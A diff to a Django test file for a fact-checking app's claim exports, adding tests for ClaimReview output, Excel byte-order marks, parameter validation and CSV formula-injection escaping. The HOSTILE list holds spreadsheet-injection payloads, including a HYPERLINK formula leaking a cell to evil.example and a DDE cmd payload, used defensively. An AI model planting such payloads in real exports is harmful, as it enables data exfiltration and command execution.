@@ -10,7 +10,7 @@ from django.urls import reverse
 
 from claims.models import Claim
 
-from .conftest import rating
+from .conftest import make_claim, make_source, make_speaker, rating
 
 pytestmark = pytest.mark.django_db
 
@@ -81,13 +81,18 @@ def test_exported_rows_carry_speaker_relay_source_span_status_and_verdict(desk, 
 
 def test_the_claimreview_export_holds_only_published_claims(desk, seed, editor):
     claim = seed["us-accusation"]
-    Claim.objects.filter(pk=claim.pk).update(status="reviewed", rating=rating("Misleading"))
+    Claim.objects.filter(pk=claim.pk).update(
+        status="reviewed",
+        rating=rating("Misleading"),
+        claim_reviewed="North Korea provides arms to Russia.",
+        explanation="<p>Officials offered no evidence.</p>",
+    )
     claim.refresh_from_db()
     desk.post(reverse("claims:claim-publish", args=[claim.pk]), {"version": claim.version})
     reviews = json.loads(body(desk.get(reverse("claims:claim-export", args=["claimreview"]))))
     assert len(reviews) == 1
     assert reviews[0]["@type"] == "ClaimReview"
-    assert reviews[0]["claimReviewed"] == claim.text
+    assert reviews[0]["claimReviewed"] == "North Korea provides arms to Russia."
     assert reviews[0]["url"] == "http://testserver" + claim.get_public_url()
 
 
@@ -108,3 +113,70 @@ def test_the_command_exports_with_the_same_filters(seed, tmp_path, capsys):
 def test_the_command_refuses_a_bad_filter(seed):
     with pytest.raises(CommandError, match="--claimed-after/--claimed-before: Enter a valid date"):
         call_command("export_claims", "--claimed-after", "yesterday")
+
+
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+def test_csv_cells_that_would_start_a_formula_are_written_as_text(client, editor):
+    # A Contributor controls the statement (and so the speaker, cue, title) through a plain
+    # .txt import; a spreadsheet must show these as text, never run them.
+    client.force_login(editor)
+    article = " | ".join(HOSTILE)
+    source = make_source(title="=1+1 imported.txt", body=article)
+    for words in HOSTILE:
+        make_claim(source=source, text=words, speaker=make_speaker(name="@" + words[:20]))
+    rows = list(csv.DictReader(io.StringIO(body(client.get(export_url("csv"))))))
+    assert len(rows) == len(HOSTILE)
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}]
+    assert {row["statement"] for row in rows} == {"'" + words for words in HOSTILE}
+    assert {row["source_title"] for row in rows} == {"'=1+1 imported.txt"}
+    # Numbers stay numbers, and JSON keeps the exact words.
+    assert all(row["span_start"].isdigit() for row in rows)
+    exact = {row["statement"] for row in json.loads(body(client.get(export_url("json"))))}
+    assert exact == set(HOSTILE)
+
+
+def export_url(fmt):
+    return reverse("claims:claim-export", args=[fmt])
+
+
+def test_the_excel_variant_starts_with_a_byte_order_mark(desk):
+    excel = desk.get(export_url("excel"))
+    assert excel["Content-Disposition"] == 'attachment; filename="claims-excel.csv"'
+    raw = b"".join(excel.streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbfid,statement,")
+    assert "“" in raw.decode("utf-8-sig") or "’" in raw.decode("utf-8-sig")
+    plain = b"".join(desk.get(export_url("csv")).streaming_content)
+    assert plain.startswith(b"id,statement,")
+    assert raw[3:] == plain
+
+
+@pytest.mark.parametrize(
+    ("params", "named"),
+    [
+        ({"speeker": "Putin"}, "speeker"),
+        ({"speaker": "Putin", "page": "2"}, "page"),
+        ({"claimed_after": "yesterday"}, "claimed: Enter a valid date."),
+        ({"verdict": "9999"}, "verdict: Select a valid choice."),
+        ({"status": "nonsense"}, "status: Select a valid choice."),
+    ],
+)
+@pytest.mark.parametrize("fmt", ["csv", "json", "claimreview", "excel"])
+def test_an_export_refuses_parameters_it_cannot_apply_and_names_them(desk, fmt, params, named):
+    response = desk.get(export_url(fmt), params)
+    assert response.status_code == 400
+    text = response.content.decode()
+    assert text.startswith("Nothing exported.") and named in text
+    assert "Accepted parameters: assigned, claimed_after, claimed_before" in text
+
+
+def test_a_valid_filter_still_exports_just_what_it_selects(desk, seed):
+    rows = json.loads(body(desk.get(export_url("json"), {"speaker": "Putin"})))
+    assert rows and all(row["speaker"] == "Vladimir Putin" for row in rows)
